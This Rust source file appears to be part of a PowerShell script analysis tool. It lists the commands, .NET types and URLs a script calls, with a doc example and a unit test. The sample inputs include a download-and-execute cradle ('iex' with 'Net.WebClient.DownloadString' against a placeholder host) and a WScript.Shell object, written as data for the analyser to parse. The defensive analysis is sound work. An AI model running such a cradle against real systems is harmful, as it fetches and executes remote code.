//! What a script calls.

use super::kind::IndicatorKind;
use super::scan::scan;
use crate::ordered::OrderedSet;
use crate::script::{TokenKind, lex};
use serde::Serialize;

/// Names that a script calls, each once, in the order of the text.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct CalledNames {
    /// Commands: cmdlets, functions, programs.
    pub cmdlets: Vec<String>,
    /// .NET types: in brackets, and those that `New-Object` makes.
    pub types: Vec<String>,
    /// URLs, sorted.
    pub urls: Vec<String>,
}

/// Returns the names that a script calls. Those that only a view has are those of the view's text.
///
/// ```
/// let called = scriptscope::called_names("iex (New-Object Net.WebClient).DownloadString('http://a.net/b')");
/// assert_eq!(called.cmdlets, ["iex", "New-Object"]);
/// assert_eq!(called.types, ["Net.WebClient"]);
/// assert_eq!(called.urls, ["http://a.net/b"]);
/// ```
pub fn called_names(text: &str) -> CalledNames {
    let mut commands = Names::default();
    let mut types = Names::default();
    let mut declares = false;
    let mut makes = false;
    for token in lex(text) {
        let part = text.get(token.start..token.end).unwrap_or_default();
        match token.kind {
            // The name of a function that is declared.
            TokenKind::Command if declares => {}
            TokenKind::Command => {
                commands.add(&part.replace('`', ""));
                makes = part.eq_ignore_ascii_case("New-Object");
                declares = false;
                continue;
            }
            TokenKind::Type => types.add(part.trim_matches(['[', ']'])),
            TokenKind::Other | TokenKind::String if makes => {
                types.add(part.trim_matches(['\'', '"']));
            }
            TokenKind::Parameter if makes => {
                makes = part.get(1..).is_some_and(|name| {
                    !name.is_empty() && "typename".starts_with(&name.to_ascii_lowercase())
                });
                continue;
            }
            _ => {}
        }
        makes = false;
        declares = token.kind == TokenKind::Keyword
            && ["function", "filter", "workflow", "configuration"]
                .iter()
                .any(|keyword| keyword.eq_ignore_ascii_case(part));
    }
    let (found, _) = scan(text);
    let urls =
        found.iter().filter(|found| found.kind == IndicatorKind::Url && found.left_out.is_none());
    CalledNames {
        cmdlets: commands.names,
        types: types.names,
        urls: urls.map(|url| url.value.clone()).collect(),
    }
}

/// Names in the order in which they first came, each once whatever its case.
#[derive(Default)]
struct Names {
    names: Vec<String>,
    known: OrderedSet<String>,
}

impl Names {
    fn add(&mut self, name: &str) {
        let is_name = name.chars().any(char::is_alphanumeric);
        if is_name && self.known.insert(name.to_lowercase()) {
            self.names.push(name.to_owned());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_listed_once_in_the_order_of_the_text() {
        let called = called_names(
            "function Get-It { param([string]$a) I`EX $a }\n\
             $c = New-Object -TypeName 'System.Net.WebClient'; GET-IT; iex $c; [System.Text.Encoding]::UTF8\n\
             New-Object -ComObject WScript.Shell; & 'C:\\a.exe'; [STRING] 1 # http://a.net/ 'http://example.com/'",
        );
        assert_eq!(called.cmdlets, ["IEX", "New-Object", "GET-IT"]);
        assert_eq!(called.types, ["string", "System.Net.WebClient", "System.Text.Encoding"]);
        assert_eq!(called.urls, ["http://a.net/"]);
        assert_eq!(called_names(""), CalledNames::default());
    }
}
